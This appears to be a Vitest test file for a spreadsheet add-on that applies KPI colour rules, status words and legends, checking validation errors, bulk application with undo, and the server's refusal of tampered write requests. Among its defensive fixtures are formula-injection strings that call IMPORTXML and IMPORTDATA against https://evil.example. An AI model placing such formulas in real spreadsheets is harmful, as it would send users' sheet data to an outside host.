import { describe, expect, it } from 'vitest';
import type { Host } from '../../../host/index.ts';
import type { OwnCells, WriteColoursRequest } from '../../../src/addon/server/colourTypes.ts';
import { applyColours, colourRequest, previewInVain } from '../support/colours.ts';
import { ask, askInVain, openBook, sheetOf, snapshot } from '../support/openBook.ts';
import { specFor, table } from './support.ts';

const open = () => openBook({ 表: table, 別: {} });
const spec = specFor(4, { legend: true });

describe('what cannot be planned', () => {
  const [area] = specFor(4).areas as [ReturnType<typeof specFor>['areas'][number]];
  it.each([
    ['no area', { areas: [] }, 'NOTHING_TO_COLOUR'],
    ['too many areas', { areas: Array(51).fill(area) }, 'TOO_MANY_RANGES'],
    ['a direction that is none', { direction: 'up' as 'higher' }, 'DIRECTION_UNKNOWN'],
    ['a limit below 0', { yellow: -0.1 }, 'CUTOFF_OUT_OF_RANGE'],
    ['a limit that is no number', { green: Number.NaN }, 'CUTOFF_OUT_OF_RANGE'],
    ['limits that are swapped', { yellow: 2 }, 'CUTOFFS_REVERSED'],
    ['a target elsewhere', { areas: [{ ...area, target: '別!C2:C5' }] }, 'OTHER_SHEET'],
    ['too few targets', { areas: [{ ...area, target: '表!C2:C4' }] }, 'TARGET_NOT_BESIDE'],
    ['targets in other rows', { areas: [{ ...area, target: '表!C3:C6' }] }, 'TARGET_NOT_BESIDE'],
    ['words in other rows', { areas: [{ ...area, status: '表!D3:D6' }] }, 'TARGET_NOT_BESIDE'],
    ['two columns at once', { areas: [{ ...area, actual: '表!B2:C5', target: 1 }] }, 'NOT_ONE_LINE'],
    ['itself as the target', { areas: [{ ...area, target: '表!B2:B5' }] }, 'RANGES_OVERLAP'],
    ['words on the targets', { areas: [{ ...area, status: '表!C2:C5' }] }, 'RANGES_OVERLAP'],
    ['the same cells twice', { areas: [area, area] }, 'RANGES_OVERLAP'],
    ['a target too large for a rule', { areas: [{ ...area, target: 1e16 }] }, 'FIXED_TARGET_UNUSABLE'],
    ['a target too small for a rule', { areas: [{ ...area, target: 1e-13 }] }, 'FIXED_TARGET_UNUSABLE'],
    ['no address', { areas: [{ ...area, actual: '表!__proto__' }] }, 'ADDRESS_UNREADABLE'],
    ['a whole column', { areas: [{ ...area, actual: '表!B:B' }] }, 'ADDRESS_UNREADABLE'],
    ['rows the sheet does not have', { areas: [{ ...area, target: '表!C1001' }] }, 'OUTSIDE_SHEET'],
  ])('%s', (_, changes, code) => {
    expect(previewInVain(open(), { ...specFor(4), ...changes })).toBe(code);
  });

  it('a date among the numbers', () => {
    const host = open();
    sheetOf(host)
      .getRange('B3')
      .setValue(new Date(2026, 3, 1));
    expect(previewInVain(host, specFor(4))).toBe('DATE_NOT_JUDGED');
  });
});

it('fifty areas with words and a legend are coloured at once', () => {
  const lines = Array.from({ length: 50 }, (_, n) => n * 4 + 2);
  const host = openBook({ 表: Array.from({ length: 202 }, (_, r) => ['x', (r * 7) % 130, 100]) });
  const areas = lines.map((row) => ({
    orientation: 'columns' as const,
    actual: `表!B${row}:B${row + 2}`,
    target: `表!C${row}:C${row + 2}`,
    status: `表!D${row}:D${row + 2}`,
  }));
  const { applied, cells, undo } = applyColours(host, { ...spec, areas });
  expect(cells).toBe(150);
  expect(sheetOf(host).getConditionalFormatRules()).toHaveLength(353);
  ask(host, 'undoLastWrite', { id: undo!.id });
  expect(applied.spec.areas).toHaveLength(50);
  expect(sheetOf(host).getConditionalFormatRules()).toEqual([]);
});

const refused = (host: Host, request: WriteColoursRequest) => {
  const before = snapshot(host);
  const { code, data } = askInVain(host, 'writeColours', request);
  expect(snapshot(host)).toEqual(before);
  return [code, data.value];
};

describe('what the server does not carry out', () => {
  const evil = '=AND(N("kpi:ID:ok:higher:0.8:1")=0,ISNUMBER(IMPORTXML("https://evil.example","//a")))';
  const status = '=IF(IMPORTDATA("https://evil.example")=1,"● 達成",IF(1,"▲ 注意","■ 要対応"))';
  const withRule = (request: WriteColoursRequest, formula: string) => ({
    ...request,
    rules: [{ ...request.rules[0]!, formula: formula.replace('ID', request.id) }],
  });
  const withLine = (request: WriteColoursRequest, changes: Partial<OwnCells>) => ({
    ...request,
    cells: [{ ...request.cells[0]!, ...changes }],
  });
  const box = { row: 2, column: 4, rows: 4, columns: 1 };

  it.each<[string, (request: WriteColoursRequest) => WriteColoursRequest, string]>([
    ['a rule that reaches outside', (request) => withRule(request, evil), 'rules'],
    ['a rule without our marker', (request) => withRule(request, '=$B2>1'), 'rules'],
    ['a rule of another set', (request) => ({ ...request, id: 'm0' }), 'rules'],
    ['a marker that is not first', (r) => withRule(r, '=AND(1,N("kpi:ID:ok:higher:0.8:1")=0)'), 'rules'],
    ['no rules', (request) => ({ ...request, rules: [] }), 'rules'],
    [
      'more rules than fifty areas need',
      (request) => ({ ...request, rules: Array(354).fill(request.rules[0]) }),
      'rules',
    ],
    [
      'a rule on two ranges',
      (r) => ({ ...r, rules: [{ ...r.rules[0]!, boxes: [box, { ...box, column: 6 }] }] }),
      'rules',
    ],
    [
      'a rule far outside',
      (r) => ({ ...r, rules: [{ ...r.rules[0]!, boxes: [{ ...box, row: 9000 }] }] }),
      'rules',
    ],
    ['a status that reaches outside', (request) => withLine(request, { text: status }), 'cells'],
    ['a status that is none', (request) => withLine(request, { text: '=SUM({0;-2})' }), 'cells'],
    [
      'a reference left of the sheet',
      (r) => withLine(r, { text: r.cells[0]!.text.replaceAll('{0;-2}', '{0;-4}') }),
      'cells',
    ],
    ['cells of no known kind', (r) => withLine(r, { kind: 'toString' as 'status' }), 'cells'],
    [
      'a text longer than any of ours',
      (r) => withLine(r, { kind: 'legend', text: 'x'.repeat(201) }),
      'cells',
    ],
    ['a block of cells', (r) => withLine(r, { box: { ...box, columns: 2 } }), 'cells'],
    ['a place that is none', (r) => ({ ...r, judged: [{ ...box, row: 0 }] }), 'judged'],
  ])('%s', (_, spoil, what) => {
    const host = open();
    expect(refused(host, spoil(colourRequest(host, spec)))).toEqual(['REQUEST_UNREADABLE', what]);
  });

  it('a text that would be a formula stays text', () => {
    const host = open();
    const request = colourRequest(host, spec);
    const line = {
      kind: 'legend' as const,
      box: { ...box, column: 9, rows: 1 },
      text: '=IMPORTXML("x","y")',
    };
    ask(host, 'writeColours', { ...request, cells: [line] });
    expect(sheetOf(host).getRange('I2').getFormula()).toBe('');
    expect(host.cell('I2').value).toBe('=IMPORTXML("x","y")');
  });

  it('a plan that is out of date: a number, a rule of ours or a cell to be written changed', () => {
    const host = open();
    const request = colourRequest(host, spec);
    applyColours(host, specFor(3, { statusWords: false }));
    expect(refused(host, request)[0]).toBe('PLACE_CHANGED');
    const other = open();
    const planned = colourRequest(other, spec);
    sheetOf(other).getRange('C3').setValue(99);
    expect(refused(other, planned)[0]).toBe('PLACE_CHANGED');
    sheetOf(other).getRange('C3').setValue(100);
    sheetOf(other).getRange('F3').setFormula('=1+1');
    expect(refused(other, planned)[0]).toBe('CELLS_OCCUPIED');
    sheetOf(other).getRange('F3').clearContent();
    ask(other, 'writeColours', planned);
  });
});
